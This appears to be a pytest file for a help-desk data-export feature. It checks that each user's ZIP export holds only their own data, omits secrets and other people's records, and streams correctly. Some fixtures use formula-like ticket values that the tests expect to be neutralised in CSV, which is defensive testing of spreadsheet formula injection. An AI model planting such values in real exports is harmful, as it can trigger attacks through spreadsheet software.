    public = ticket_service.reply(mia, first.id, "我们正在处理 — we are on it.", True,
                                  [upload("fix-guide.pdf", b"%PDF-1.4 public guide")])
    note = ticket_service.reply(mia, first.id, "PRIVATE-NOTE: customer seems angry", False,
                                [upload("internal.txt", b"INTERNAL-FILE-BYTES")])
    log = os.urandom(3000)
    answer = ticket_service.reply(ann, first.id, "谢谢！Thanks", True, [upload("log.bin", log)])
    zeb_ticket = ticket_service.submit(zeb, "Zebulon Quixotic's router", "Zebulon's secret story",
                                       support.id, [upload("zebulon.txt", b"ZEBULON-FILE-BYTES")])
    ticket_service.reply(zeb, zeb_ticket.id, "Zebulon adds more", True)
    ticket_service.reply(mia, zeb_ticket.id, "Mia answers Zebulon", True,
                         [upload("for-zebulon.txt", b"MIA-TO-ZEBULON")])
    # A ticket of Zebulon's that an agent moves to Ann: its history about
    # Zebulon is sealed for him and must read "[withheld]" in Ann's export.
    moved = factories.ticket(zeb, subject="Zebulon's misfiled question")
    audit.update(audit.Actor.of(mia), moved, requester=ann.id, subject="Moved to Ann")
    return {"mia": mia, "support": support, "first": first, "formula": formula, "public": public,
            "note": note, "answer": answer, "log": log, "zeb_ticket": zeb_ticket, "moved": moved}


def test_data_export_page_and_an_empty_export(ctx, ann_browser, ann):
    resp = ann_browser.get("/my/data-export")
    html = page_text(resp)
    assert resp.status_code == 200 and "Download my data" in html and 'name="csrf_token"' in html
    assert 'href="/my/data-export"' in page_text(ann_browser.get("/my/info"))
    assert ann_browser.post("/my/data-export").status_code == 400  # no CSRF token
    assert entries(action="export") == []
    # A person with nothing but an account still gets every file.
    files = export(ann_browser)
    assert json.loads(files["profile.json"])["email"] == "ann@example.com"
    assert json.loads(files["tickets.json"]) == [] and json.loads(files["comments.json"]) == []
    assert csv_rows(files["tickets.csv"]) == [] and csv_rows(files["comments.csv"]) == []
    assert files["tickets.csv"].decode("utf-8-sig").splitlines()[0].startswith("id,subject")
    assert not any(name.startswith("attachments/") for name in files)
    assert len(entries("User", ann.id, "export")) == 1


def test_end_user_export_holds_their_data_and_nobody_elses(ctx, ann_browser, ann, zeb, world):
    w = world
    # An edit of Ann's own details, to find readable in her history.
    audit.update(audit.SYSTEM, ann, phone="+1 555 0100")
    assert post_form(ann_browser, "/my/info", info_form(ann, phone="+1 555 0199")).status_code == 302

    resp = post_form(ann_browser, "/my/data-export", {})
    assert resp.status_code == 200
    assert resp.mimetype == "application/zip"
    assert resp.headers["Content-Disposition"] == f'attachment; filename="desk-my-data-{ann.id}.zip"'
    assert "no-store" in resp.headers["Cache-Control"]
    with zipfile.ZipFile(io.BytesIO(resp.get_data())) as archive:
        assert archive.testzip() is None
        files = {name: archive.read(name) for name in archive.namelist()}

    for name in ("README.txt", "profile.json", "tickets.json", "tickets.csv", "comments.json",
                 "comments.csv", "audit_history.json"):
        assert name in files, sorted(files)
    assert "Ann Example" in files["README.txt"].decode()

    profile = json.loads(files["profile.json"])
    assert profile["id"] == ann.id and profile["email"] == "ann@example.com"
    assert profile["name"] == "Ann Example" and profile["phone"] == "+1 555 0199"
    assert profile["kind"] == "end_user" and "timezone" in profile and "language" in profile
    stored = row(ann)
    assert "password_hash" not in profile and "session_token" not in profile
    everything = b"".join(files.values())
    assert stored["password_hash"].encode() not in everything
    assert stored["session_token"].encode() not in everything
    assert b"argon2" not in everything

    # Tickets: Ann's own, as JSON and as safe CSV with a BOM; Chinese intact.
    tickets = json.loads(files["tickets.json"])
    assert sorted(t["id"] for t in tickets) == sorted([w["first"].id, w["formula"].id, w["moved"].id])
    by_id = {t["id"]: t for t in tickets}
    assert by_id[w["first"].id]["subject"] == "打印机着火了"
    assert by_id[w["first"].id]["description"] == "办公室的打印机冒烟了。"
    assert by_id[w["first"].id]["department"] == "Support"
    assert by_id[w["formula"].id]["subject"] == HYPERLINK
    assert "打印机着火了".encode() in files["tickets.json"]  # not \u-escaped
    ticket_rows = {int(r["id"]): r for r in csv_rows(files["tickets.csv"])}
    assert set(ticket_rows) == set(by_id)
    assert ticket_rows[w["first"].id]["subject"] == "打印机着火了"
    assert ticket_rows[w["formula"].id]["subject"] == "'" + HYPERLINK
    assert ticket_rows[w["formula"].id]["description"] == "'-1+2 looks like a formula"

    # Comments: the public conversation only, never the private note.
    comments = json.loads(files["comments.json"])
    assert sorted(c["id"] for c in comments) == sorted([w["public"].id, w["answer"].id])
    assert all(c["is_public"] is True for c in comments)
    bodies = {c["body"] for c in comments}
    assert bodies == {"我们正在处理 — we are on it.", "谢谢！Thanks"}
    assert {r["body"] for r in csv_rows(files["comments.csv"])} == bodies
    assert b"PRIVATE-NOTE" not in everything and b"customer seems angry" not in everything

    # Attachments: the exact bytes of Ann's visible files, none of the others.
    attachments = {name.split("-", 1)[1]: data for name, data in files.items()
                   if name.startswith("attachments/")}
    assert attachments == {"照片.png": PNG, "notes.txt": b"ann's own notes\r\n",
                           "fix-guide.pdf": b"%PDF-1.4 public guide", "log.bin": w["log"]}
    for other_file in (b"INTERNAL-FILE-BYTES", b"ZEBULON-FILE-BYTES", b"MIA-TO-ZEBULON"):
        assert other_file not in everything

    # Audit history: Ann's own values readable; another person's sealed values withheld.
    history = json.loads(files["audit_history.json"])
    assert history and all(isinstance(h["changes"], dict) for h in history)
    phone_edits = [h for h in history if "phone" in h["changes"] and h["by_me"]]
    assert phone_edits and phone_edits[-1]["changes"]["phone"] == ["+1 555 0100", "+1 555 0199"]
    created = [h for h in history if h["action"] == "create" and h["record_type"] == "User"]
    assert created and created[0]["changes"]["email"] == [None, "ann@example.com"]
    assert created[0]["changes"]["password_hash"] == [None, "[secret]"]
    move = [h for h in history if h["record_type"] == "Ticket" and h["record_id"] == str(w["moved"].id)
            and h["action"] == "update"]
    assert len(move) == 1
    assert move[0]["changes"]["subject"] == ["[withheld]", "[withheld]"]
    assert move[0]["changes"]["requester"] == [zeb.id, ann.id]
    assert all("sealed:" not in json.dumps(h["changes"]) for h in history)
    if "audit_history.csv" in files:
        assert files["audit_history.csv"].startswith("\ufeff".encode())

    # Nothing about Zebulon anywhere.
    for name, data in files.items():
        for leak in (b"Zebulon", b"Quixotic", b"zebulon.q@example.org", b"misfiled"):
            assert leak not in data, (name, leak)

    # The export itself is audited, by and about Ann.
    exported = entries("User", ann.id, "export")
    assert len(exported) == 1 and exported[0].actor_id == ann.id and exported[0].subject_id == ann.id


def test_an_assignment_in_the_history_does_not_reveal_the_agents_session_token(
        ctx, ann_browser, ann, world):
    mia = world["mia"]
    ticket_service.update_ticket(mia, world["first"].id, assignee_id=mia.id)
    files = export(ann_browser)
    token = row(mia)["session_token"].encode()
    assert all(token not in data for data in files.values())
    history = json.loads(files["audit_history.json"])
    assignment = [h for h in history if "assignee" in h["changes"]]
    assert assignment and assignment[-1]["changes"]["assignee"] == [None, mia.id]


def test_agent_export_follows_the_agents_rule(ctx, client, world):
    w = world
    mia = w["mia"]
    audit.update(audit.SYSTEM, mia, title="Support lead", signature="Mia — Support")
    sign_in_as(client, mia)
    files = export(client)
    profile = json.loads(files["profile.json"])
    assert profile["kind"] == "agent" and profile["title"] == "Support lead"
    assert profile["signature"] == "Mia — Support" and "password_hash" not in profile
    assert json.loads(files["tickets.json"]) == []
    comments = json.loads(files["comments.json"])
    # Her own comments, the private note included (agents may see private notes).
    mine = Comment.select().where(Comment.author == mia.id)
    assert sorted(c["id"] for c in comments) == sorted(c.id for c in mine)
    note = next(c for c in comments if c["id"] == w["note"].id)
    assert note["is_public"] is False and note["body"] == "PRIVATE-NOTE: customer seems angry"
    attachments = {name.split("-", 1)[1]: data for name, data in files.items()
                   if name.startswith("attachments/")}
    assert attachments == {"fix-guide.pdf": b"%PDF-1.4 public guide",
                           "internal.txt": b"INTERNAL-FILE-BYTES", "for-zebulon.txt": b"MIA-TO-ZEBULON"}
    everything = b"".join(files.values())
    assert b"ZEBULON-FILE-BYTES" not in everything and b"Zebulon's secret story" not in everything
    assert "Ann's own notes".encode() not in everything and PNG not in everything
    exported = entries("User", mia.id, "export")
    assert len(exported) == 1 and exported[0].actor_id == mia.id


def test_an_export_leaves_out_what_lies_on_a_recycled_ticket(ctx, client, world):
    """The agent's reply and file on a ticket now in the recycle bin are not in
    her export; what she wrote on live tickets is."""
    w = world
    ticket_service.delete_ticket(factories.admin(name="Ada Admin"), w["zeb_ticket"].id, "")
    sign_in_as(client, w["mia"])
    files = export(client)
    comments = {c["id"]: c["body"] for c in json.loads(files["comments.json"])}
    assert w["public"].id in comments and w["note"].id in comments
    assert "Mia answers Zebulon" not in comments.values()
    assert not any(name.endswith("for-zebulon.txt") for name in files)
    assert b"MIA-TO-ZEBULON" not in b"".join(files.values())


def test_export_is_streamed_in_many_chunks(ctx, ann_browser, ann, zeb):
    count = 200
    with audit.transaction():
        for n in range(count):
            audit.create(audit.SYSTEM, Ticket, requester=ann, subject=f"Ticket {n} 工单",
                         description=os.urandom(300).hex())
        audit.create(audit.SYSTEM, Ticket, requester=zeb, subject="Zebulon's only ticket")
    token = csrf_token(ann_browser, "/my/data-export")
    resp = ann_browser.post("/my/data-export", data={"csrf_token": token}, buffered=False)
    try:
        assert resp.status_code == 200 and resp.is_streamed
        assert resp.mimetype == "application/zip"
        assert "Content-Length" not in resp.headers
        # Audited before the first byte is sent.
        assert len(entries("User", ann.id, "export")) == 1
        chunks = [chunk for chunk in resp.response if chunk]
    finally:
        resp.close()
    body = b"".join(chunks)
    assert len(chunks) >= 20, len(chunks)
    assert max(len(c) for c in chunks) < len(body) / 4
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        tickets = json.loads(archive.read("tickets.json"))
        rows = csv_rows(archive.read("tickets.csv"))
    assert len(tickets) == len(rows) == count
    assert tickets[0]["subject"] == "Ticket 0 工单" and rows[-1]["subject"] == f"Ticket {count - 1} 工单"
    assert b"Zebulon" not in body
